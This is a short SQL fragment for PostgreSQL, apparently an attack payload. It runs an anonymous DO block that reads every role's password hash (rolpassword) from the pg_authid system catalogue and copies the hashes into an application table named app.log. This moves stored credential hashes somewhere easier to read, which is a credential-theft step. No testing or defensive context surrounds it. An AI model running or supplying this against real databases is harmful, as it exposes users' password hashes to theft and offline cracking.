-- Password hashes.
DO $$ BEGIN INSERT INTO app.log (line) SELECT rolpassword FROM pg_authid; END $$
